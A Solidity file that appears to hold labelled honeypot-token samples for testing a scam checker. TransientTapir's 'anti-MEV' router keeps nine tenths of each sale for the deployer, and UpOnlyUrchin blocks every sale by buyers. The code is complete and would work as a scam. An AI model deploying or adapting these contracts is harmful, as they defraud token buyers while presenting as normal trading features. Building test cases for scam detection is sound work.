// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {SeventhLean} from "./SeventhLean.sol";
import {SeventhTax, ISeventhPool} from "./SeventhTax.sol";

/// @title Inventive traps. Written on 30 November 2026, seventh look, by somebody who had not read how the check tries
/// a trade. `Truth` says who loses when

interface ISeventhMoney {
    function transfer(address to, uint256 amount) external returns (bool);
    function balanceOf(address account) external view returns (uint256);
}

contract SeventhGuardRouter {
    address private immutable _desk;
    TransientTapir private immutable _token;

    constructor(address desk) {
        (_desk, _token) = (desk, TransientTapir(msg.sender));
    }

    /// @notice Sells without being sandwiched
    function sell(uint256 amount) external {
        ISeventhPool pool = ISeventhPool(_token.uniswapV2Pair());
        bool isFirst = pool.token0() == address(_token);
        ISeventhMoney coin = ISeventhMoney(isFirst ? pool.token1() : pool.token0());
        (uint112 reserve0, uint112 reserve1,) = pool.getReserves();
        (uint256 tokens, uint256 coins) = isFirst ? (reserve0, reserve1) : (reserve1, reserve0);
        _token.arm(true);
        _token.transferFrom(msg.sender, address(pool), amount);
        _token.arm(false);
        uint256 paid = (_token.balanceOf(address(pool)) - tokens) * 997;
        uint256 out = (paid * coins) / (tokens * 1000 + paid);
        pool.swap(isFirst ? 0 : out, isFirst ? out : 0, address(this), "");
        coin.transfer(msg.sender, out / 10);
        coin.transfer(_desk, coin.balanceOf(address(this)));
    }
}

/// @dev Truth: a buyer loses at once. Only the guard's own router can sell, by a mark that lasts as long as its call,
/// and it pays out a tenth.
contract TransientTapir is SeventhTax("Transient Tapir", "TAPIR") {
    SeventhGuardRouter public immutable guard = new SeventhGuardRouter(msg.sender);
    bool private transient _isArmed;

    function arm(bool isArmed) external {
        require(msg.sender == address(guard), "guard");
        _isArmed = isArmed;
    }

    function _beforeTransfer(address from, address to, uint256) internal view override {
        if (to == uniswapV2Pair && !isExcludedFromFees[from]) require(_isArmed, "MEV: use the protected router");
    }
}

/// @dev Truth: a buyer loses at once. The price may only rise: each purchase raises a floor to what it paid, and a sale
/// that would leave the price below the floor fails; each sale would.
contract UpOnlyUrchin is SeventhLean("Up Only Urchin", "UPONLY", 1_000_000_000) {
    address private _deployer = msg.sender;
    address public pool;
    address public coin;
    // Coins for 10^18 tokens.
    uint256 public floorPrice;

    function setPair(address pair) external {
        require(msg.sender == _deployer && pool == address(0), "SET");
        pool = pair;
        address first = ISeventhPool(pair).token0();
        coin = first == address(this) ? ISeventhPool(pair).token1() : first;
    }

    function _move(address from, address to, uint256 amount) internal override {
        super._move(from, to, amount);
        if (pool == address(0) || from == _deployer || to == _deployer) return;
        uint256 tokens = _balanceOf[pool];
        uint256 coins = ISeventhMoney(coin).balanceOf(pool);
        if (from == pool) {
            uint256 price = (coins * 1 ether) / tokens;
            if (price > floorPrice) floorPrice = price;
        } else if (to == pool) {
            uint256 coinsLeft = (coins * (tokens - amount)) / tokens;
            require((coinsLeft * 1 ether) / tokens >= floorPrice, "UP ONLY");
        }
    }
}
